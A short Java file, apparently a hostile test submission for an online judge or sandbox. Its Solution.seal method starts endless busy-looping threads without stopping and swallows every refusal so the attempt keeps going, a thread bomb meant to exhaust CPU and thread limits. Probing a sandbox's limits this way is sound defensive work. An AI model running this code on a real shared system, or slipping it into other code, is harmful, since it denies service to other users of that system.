// Tries: to go on starting threads after each refusal; CPU time is counted for all threads together.
class Solution {
    long seal(String word, int[] nums) {
        while (true) {
            try {
                new Thread(() -> {
                    while (true) {}
                }).start();
            } catch (Throwable refused) {
                // once more
            }
        }
    }
}
